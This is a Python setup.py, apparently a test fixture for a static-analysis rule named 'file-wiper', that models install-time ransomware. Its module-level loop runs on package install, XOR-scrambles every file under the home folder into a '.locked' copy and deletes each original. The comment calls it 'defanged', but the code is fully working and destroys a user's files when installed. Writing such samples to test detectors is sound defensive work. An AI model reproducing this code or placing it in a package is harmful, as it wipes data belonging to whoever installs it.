import os
from setuptools import setup

# Defanged model of an install-time ransomware pass: every file under the home folder is replaced by its
# "encrypted" form and the original removed.
def lock(data):
    return bytes(b ^ 0x5A for b in data)

# ruleid: code/file-wiper
for root, dirs, files in os.walk(os.path.expanduser('~')):
    for name in files:
        p = os.path.join(root, name)
        try:
            with open(p, 'rb') as f:
                data = f.read()
            with open(p + '.locked', 'wb') as f:
                f.write(lock(data))
            os.remove(p)
        except OSError:
            pass

setup(name='ransom-demo', version='0.0.1')
